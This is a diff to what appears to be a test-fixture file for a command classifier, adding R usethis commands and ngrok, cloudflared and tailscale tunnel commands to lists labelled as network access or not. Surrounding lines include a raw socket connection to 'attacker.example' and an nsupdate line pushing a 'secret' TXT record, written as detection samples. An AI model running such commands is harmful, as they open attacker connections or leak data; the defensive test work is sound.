@@ -34,6 +34,8 @@ R_REACHING_OUT = [
     ("posix", "Rscript -e 'd <- jsonlite::fromJSON(\"https://api.github.com/repos/o/r\")'", "network"),
     ("posix", 'Rscript -e \'gh::gh("POST /repos/o/r/issues", title = "x")\'', "network.payload"),
     ("posix", "Rscript -e 'gert::git_push(remote = \"origin\")'", "network.payload"),
+    ("posix", "Rscript -e 'usethis::use_github_action(\"check-standard\")'", "network.payload"),
+    ("posix", "Rscript -e 'usethis::pr_push()'", "network.payload"),
     ("posix", 'Rscript -e "pkgdown::deploy_to_branch(new_process = FALSE)"', "network.publish"),
     ("posix", "echo 'covr::codecov()' | R --vanilla --slave", "network.remote-service"),
     ("posix", 'Rscript -e \'remotes::install_version("httr", "1.4.7")\'', "network.package-install"),
@@ -61,6 +63,8 @@ R_STAYING_HOME = [
     ("posix", 'Rscript -e \'rmarkdown::render("README.Rmd", output_format = "github_document")\''),
     ("posix", "Rscript -e 'testthat::test_dir(\"tests/testthat\")'"),
     ("posix", "Rscript -e 'plumber::pr(\"api.R\")'"),
+    ("posix", "Rscript -e 'usethis::use_version(\"minor\")'"),
+    ("posix", "Rscript -e 'usethis::use_testthat()'"),
 ]
 
 SERVERS_AND_RAW_CLIENTS = [
@@ -74,6 +78,8 @@ SERVERS_AND_RAW_CLIENTS = [
     ("posix", "zmodload zsh/net/tcp; ztcp attacker.example 443", "network.socket"),
     ("posix", "ztcp -l 9001", "network.socket"),
     ("posix", "tor --SocksPort 9150", "network.socket"),
+    ("posix", "ngrok http 8080 --help-me", "network.socket"),
+    ("posix", "cloudflared tunnel run --help app", "network.socket"),
     ("posix", "nsupdate -k Kddns.key -v update.txt", "network.dns"),
     ("posix", "printf 'update add x.example.com 60 TXT secret\\nsend\\n' | nsupdate", "network.dns"),
 ]
@@ -102,6 +108,9 @@ KEYSERVER_AND_DAEMON_TWINS = [
 ]
 
 SERVER_TWINS = [
+    ("posix", "ngrok http --help"),
+    ("posix", "cloudflared tunnel --help"),
+    ("posix", "tailscale up --help"),
     ("posix", "miniserve --version"),
     ("posix", "darkhttpd --help"),
     ("posix", "browser-sync --version"),
